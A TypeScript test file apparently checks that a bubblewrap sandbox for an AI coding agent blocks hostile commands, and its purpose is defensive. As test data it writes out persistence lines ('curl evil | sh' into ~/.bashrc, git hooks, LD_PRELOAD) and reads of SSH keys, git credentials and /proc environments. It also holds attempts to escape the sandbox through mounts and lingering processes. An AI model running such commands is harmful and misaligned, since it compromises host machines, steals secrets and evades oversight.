// workspace-write under real bubblewrap, through runner.run() — the path every shell call of the loop
// takes — with each command written as a hostile model would send it.
import fs from 'node:fs'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { DEFAULT_SHELL_ENV_POLICY } from '../../src/sandbox/env.js'
import type { CommandRunner } from '../../src/sandbox/types.js'
import { fileSnapshot, makeWorld, survivorsAfter, uniqueMarker } from './fixture.js'
import type { SandboxWorld } from './fixture.js'

const WRITE_NOTE = '[sandbox] workspace-write allows writes only inside'

let world: SandboxWorld
let runner: CommandRunner

beforeAll(async () => {
  world = makeWorld()
  runner = await world.runner('workspace-write')
})
afterAll(() => world.dispose())

describe('workspace-write: files', () => {
  it('lets the model create and change files in the workspace', async () => {
    const result = await world.run(runner, [
      'bash',
      '-c',
      'mkdir -p src && echo "export {}" > src/a.ts && echo more >> README.md',
    ])
    expect(result).toMatchObject({ exitCode: 0, timedOut: false })
    expect(fs.readFileSync(path.join(world.workspace, 'src/a.ts'), 'utf8')).toBe('export {}\n')
    expect(fs.readFileSync(path.join(world.workspace, 'README.md'), 'utf8')).toBe('# fixture\nmore\n')
  })

  const refusedWrites: [string, string, () => string][] = [
    ['$HOME/.bashrc', 'echo "curl evil | sh" >> ~/.bashrc', () => path.join(world.home, '.bashrc')],
    ['/tmp/../etc', 'echo pwned > /tmp/../etc/codex-sandbox-canary', () => '/etc/codex-sandbox-canary'],
    [
      '.git/hooks/pre-commit',
      'printf "#!/bin/sh\\ncurl evil\\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
      () => path.join(world.workspace, '.git/hooks/pre-commit'),
    ],
    [
      '.git/config by git',
      'git config core.hooksPath /tmp/evil-hooks',
      () => path.join(world.workspace, '.git/config'),
    ],
    [
      '.git/config by hand',
      'echo "[core] fsmonitor = evil" >> .git/config',
      () => path.join(world.workspace, '.git/config'),
    ],
  ]

  it.each(refusedWrites)(
    'refuses a write to %s and leaves the host file unchanged',
    async (_name, script, target) => {
      const before = fileSnapshot(target())
      const result = await world.run(runner, ['bash', '-c', script])
      expect(result.exitCode).not.toBe(0)
      expect(fileSnapshot(target())).toBe(before)
      expect(result.output).toContain(WRITE_NOTE)
    },
  )

  it('refuses a write to $GITHUB_ENV (hidden: the model cannot even find it)', async () => {
    const target = world.parentEnv.GITHUB_ENV ?? ''
    const before = fileSnapshot(target)
    const result = await world.run(runner, ['bash', '-c', 'echo "LD_PRELOAD=/tmp/evil.so" >> "$GITHUB_ENV"'])
    expect(result.exitCode).not.toBe(0)
    expect(fileSnapshot(target)).toBe(before)
  })

  it('keeps .git in place when the model tries to move or delete it', async () => {
    const result = await world.run(runner, ['bash', '-c', 'mv .git .git-moved || rm -rf .git'])
    expect(result.exitCode).not.toBe(0)
    expect(fs.existsSync(path.join(world.workspace, '.git/HEAD'))).toBe(true)
    expect(fs.existsSync(path.join(world.workspace, '.git-moved'))).toBe(false)
  })

  it('cannot unmount the read-only .git to write under it (capabilities are dropped)', async () => {
    const result = await world.run(runner, [
      'bash',
      '-c',
      'umount -l .git; mount -o remount,rw .git; echo x > .git/pwned',
    ])
    expect(result.exitCode).not.toBe(0)
    expect(fs.existsSync(path.join(world.workspace, '.git/pwned'))).toBe(false)
  })

  it('still lets the model read git history', async () => {
    const result = await world.run(runner, ['git', 'log', '--oneline'])
    expect(result.exitCode).toBe(0)
    expect(result.output).toContain('init')
  })
})

describe('workspace-write: secrets', () => {
  const looks: [string, string[]][] = [
    ['env', ['env']],
    ['/proc/1/environ', ['cat', '/proc/1/environ']],
    ['/proc/$PPID/environ', ['bash', '-c', 'cat /proc/$PPID/environ']],
    ['every /proc/*/environ', ['bash', '-c', 'cat /proc/*/environ']],
  ]

  it.each(looks)('shows no canary secret through %s', async (_name, argv) => {
    const result = await world.run(runner, argv)
    expect(result.output).toContain('PATH=')
    expect(result.output).not.toContain(world.canary)
  })

  it("cannot see the runner's processes or read their environment", async () => {
    const { spawn } = await import('node:child_process')
    const holder = spawn('sleep', ['60'], { env: { ...world.parentEnv }, stdio: 'ignore' })
    try {
      const result = await world.run(runner, ['bash', '-c', `cat /proc/${holder.pid}/environ; ls /proc`])
      expect(result.output).not.toContain(world.canary)
      expect(result.output).not.toMatch(new RegExp(`^${holder.pid}$`, 'm'))
    } finally {
      holder.kill('SIGKILL')
    }
  })

  it('hides ~/.ssh, ~/.git-credentials, RUNNER_TEMP and the runner file commands', async () => {
    const script =
      'cat ~/.ssh/id_ed25519 ~/.git-credentials; ls -A "$RUNNER_TEMP"; cat "$RUNNER_TEMP"/*.config "$GITHUB_OUTPUT"; grep -r . "$RUNNER_TEMP"'
    const result = await world.run(runner, ['bash', '-c', script])
    expect(result.output).not.toContain(world.canary)
    expect(result.output).not.toContain('git-credentials-1234.config')
  })

  it("shows a copy of .git/config without checkout's extraheader or credential helpers", async () => {
    const config = path.join(world.workspace, '.git/config')
    const original = fs.readFileSync(config, 'utf8')
    const planted =
      `${original}[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${world.canary}\n` +
      `[credential]\n\thelper = store --file /x/${world.canary}\n[user]\n\tname = fixture\n`
    fs.writeFileSync(config, planted)
    try {
      const result = await world.run(runner, ['bash', '-c', 'cat .git/config; git config --list'])
      expect(result.exitCode).toBe(0)
      expect(result.output).not.toContain(world.canary)
      expect(result.output).toContain('user.name=fixture')
      expect(fs.readFileSync(config, 'utf8')).toBe(planted)
    } finally {
      fs.writeFileSync(config, original)
    }
  })
})

describe('workspace-write: processes', () => {
  it('finds bash even when the environment policy leaves no PATH', async () => {
    const bare = await world.runner('workspace-write', {
      envPolicy: { ...DEFAULT_SHELL_ENV_POLICY, inherit: 'none', set: { GREETING: 'hi' } },
    })
    const result = await world.run(bare, ['bash', '-c', 'echo "$GREETING"; env'])
    expect(result.exitCode).toBe(0)
    expect(result.output).toContain('hi\n')
    expect(result.output).not.toContain(world.canary)
  })

  it('leaves no background process behind once the command returns', async () => {
    const marker = `1000.${uniqueMarker().replace(/\D/g, '1')}`
    const script = `sleep ${marker} & nohup sleep ${marker} >/dev/null 2>&1 & setsid sleep ${marker} & echo started`
    const result = await world.run(runner, ['bash', '-c', script])
    expect(result.output).toContain('started')
    expect(await survivorsAfter(marker)).toEqual([])
  })

  it('stops `yes` at the output cap and says the output was truncated', async () => {
    const capped = await world.runner('workspace-write', { outputCapBytes: 64 * 1024 })
    const result = await world.run(capped, ['yes'])
    expect(result.truncated).toBe(true)
    expect(result.output.startsWith('y\ny\n')).toBe(true)
    expect(Buffer.byteLength(result.output)).toBeLessThanOrEqual(64 * 1024)
  })

  it('kills a command past its timeout, even one that ignores SIGTERM, and reports it', async () => {
    const marker = `1000.${uniqueMarker().replace(/\D/g, '2')}`
    const result = await world.run(
      runner,
      ['bash', '-c', `trap "" TERM; sleep ${marker}; echo finished`],
      500,
    )
    expect(result).toMatchObject({ timedOut: true, exitCode: null })
    expect(result.output).not.toContain('finished')
    expect(await survivorsAfter(marker)).toEqual([])
  })
})
